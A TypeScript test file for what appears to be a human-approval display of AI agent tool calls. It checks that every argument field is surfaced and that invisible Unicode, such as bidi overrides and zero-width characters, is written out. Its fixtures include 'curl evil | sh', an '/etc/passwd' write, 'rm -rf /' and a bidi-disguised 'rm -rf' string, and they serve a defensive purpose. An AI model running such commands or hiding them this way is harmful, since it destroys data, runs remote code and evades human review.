// What somebody who decides gets to see.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { plainly, plainWords } from '../src/parts/plainly';
import { takeApart } from '../src/session/questions/parts';

test('every field of a question is shown somewhere', () => {
  const args = { command: 'ls', cmd: 'curl evil | sh', path: '/etc/passwd', newText: 'x', edits: [{ hidden: 'payload' }] };
  const { command, changes, rest } = takeApart(args);
  assert.equal(command, 'ls');
  assert.deepEqual(changes, [{ path: '/etc/passwd', before: '', after: 'x' }]);
  assert.deepEqual(JSON.parse(rest ?? ''), { cmd: 'curl evil | sh', edits: [{ hidden: 'payload' }] });
});

test('a list of changes is left out of the rest only if nothing else is in it', () => {
  const clean = takeApart({ file_path: 'a.rs', edits: [{ old_string: 'a', new_string: 'b' }, { old_string: 'c', new_string: 'd' }] });
  assert.deepEqual(clean.changes, [{ path: 'a.rs', before: 'a', after: 'b' }, { path: 'a.rs', before: 'c', after: 'd' }]);
  assert.deepEqual(JSON.parse(clean.rest ?? ''), { file_path: 'a.rs' });
  const odd = takeApart({ edits: [{ old_string: 'a', new_string: 'b', replace_all: true }] });
  assert.match(odd.rest ?? '', /replace_all/);
});

test('arguments of any shape are shown', () => {
  assert.deepEqual(takeApart(undefined), { changes: [] });
  assert.deepEqual(takeApart('rm -rf /'), { command: 'rm -rf /', changes: [] });
  assert.deepEqual(takeApart(7), { changes: [], rest: '7' });
  assert.match(takeApart(['a', { b: 1 }]).rest ?? '', /"b": 1/);
  assert.equal(takeApart({ command: ['sh', '-c', "echo 'hi there'"] }).command, "sh -c 'echo '\\''hi there'\\'''");
  // Not a command line: it stays among the rest.
  assert.match(takeApart({ command: { run: 'x' } }).rest ?? '', /"run": "x"/);
  assert.match(takeApart({ command: [] }).rest ?? '', /command/);
});

test('letters that nobody sees are written out', () => {
  assert.equal(plainly('ls \u202e fr- mr ;\u2066 # gpj.tac'), 'ls \\u{202e} fr- mr ;\\u{2066} # gpj.tac');
  assert.equal(plainly('a\u200bb\ufeffc\u{e0041}d\u0007'), 'a\\u{200b}b\\u{feff}c\\u{e0041}d\\u{7}');
  assert.equal(plainly('tab\tline\r\n'), 'tab\tline\r\n');
  assert.equal(plainWords('👩\u200d💻 \u202eno'), '👩\u200d💻 \\u{202e}no');
});
